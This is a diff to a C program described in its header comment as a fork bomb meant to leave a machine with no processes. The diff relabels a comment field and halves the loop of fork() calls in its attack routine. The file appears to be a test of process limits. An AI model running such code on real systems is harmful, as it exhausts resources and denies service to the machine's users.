@@ -3,7 +3,7 @@
  * Idea: A fork bomb.
  * Wants: the machine to have no processes left
  * Seen by: time, the machine
- * Told: processes
+ * Told: run
  */
 #include <dirent.h>
 #include <fcntl.h>
@@ -14,7 +14,7 @@
 #include <unistd.h>
 static void attack(void)
 {
-	for (int i = 0; i < 3000; i++)
+	for (int i = 0; i < 1500; i++)
 		if (fork() < 0)
 			break;
 	pause();
